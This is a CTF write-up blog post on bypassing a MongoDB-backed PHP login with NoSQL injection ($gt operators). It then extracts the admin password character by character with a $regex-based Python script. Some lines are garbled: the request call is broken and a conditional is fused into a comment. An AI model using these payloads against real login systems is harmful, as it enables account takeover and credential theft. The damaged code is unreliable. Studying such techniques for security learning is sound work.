MongoDB - Extracting data (admin password) using NoSQL Injection - MMACTF 2016 Web 100 writeup

Sep 5, 2016 • ctf

Using NoSQL injections to extract admin password from the database (MMACTF 2016 web 100 writeup)


MMACTF 2015 was indeed a great learning experience, so I made sure that I took part in it this year. Last year, there were some really great challenges like “Local File inclusion + File Upload = Remote Code execution” and “Executing phpusing script tags”. Both of them were real learning experience.


So this year I started again, hoping that it would be fun just like the last year and fortunately it was ! So lets go ahead and solve web 100. We were given a login page and a sample account test:test to login. I tried logging in and it simply says “You are logged in as test”. Our aim is to login as admin. So the only possible injection place is the login page.

Challenge URL:

Obviously the first thing to try is SQL injection but after messing around with the login page for sometime, I understood it has nothing to do with SQL. The next attempt was to try NoSQL and then I got some very interesting result. From the initial injection, it seems the backend database is MongoDB and I decided to read a bit more about it.

In simple terms, MongoDB works like this:

Request: login.php?user=admin&password=1

    "username" => "admin",
    "passwd" => "1"


The username and password is collected from the incoming data and the database is searched directly using this data. So what if we can pass objects or arrays ?

Request: login.php?user[$gt]=&password[$gt]=

    "username" => array("$gt" => 1),
    "passwd" => array("$gt" => 1)

This will bypass the Authentication scheme and will drop us right into the first account in the database, which is admin ! Sonow we are now logged in as admin ! But the flag is the password of admin so we need to extract it. I googled on how to extract data but that didn’t gave me much options. Later I came to know about $regex using which we can compare the password character by character. So here is the logic:

We initiate request with user=admin&password[$regex]=T.*. You can see that this gives a 302 redirect because the password starts with T (as password is flag and according to rules, flags starts with TWCTF). For all other characters, it gives back the status code 200. We can easily automate this to find the rest of the password

import requests
import string

#We are sure that password is the flag which starts with "TWCTF{"
# and ends with "}"

flag = "TWCTF{"
url = ""

# Each time a 302 redirect is seen, we should restart the loop

restart = True

while restart:
    restart = False

    # Characters like *, ., &, and + has to be avoided because we use regex

    for i in string.ascii_letters + string.digits + "!@#$%^()@_{}":
        payload = flag + i
        post_data = {'user': 'admin', 'password[$regex]': payload + ".*"}
        r =, data=post_data, allow_redirects=False)

        # A correct password means we get a 302 redirectif r.status_code == 302:
            restart = True
            flag = payload

            # Exit if "}" gives a valid redirect

            if i == "}":
                print("\nFlag: " + flag)



Script works the following way:

1) Since the password is the flag, we are sure that it starts with TWCTF{ so this can be used to verify if what we are doing is correct.

2) I assumed that characters like +, * and & will not be there because it could break the Regex (and lucky it wasn’t there !)

3) Script stops when we get a 302 redirection when the character is } because we are sure that the end character will be } (again, because password is same as flag).



These are some of the awesome references which came in handy during solving thisproblem:

  1. Mongodb is vulnerable to SQL injection in PHP at least
  2. Hacking NodeJs and MongoDB

Anirudh Anand

Product Security ♥ | CTF - @teambi0s | Security Trainer- @7asecurity | certs - eWDP, OSCP, OSWE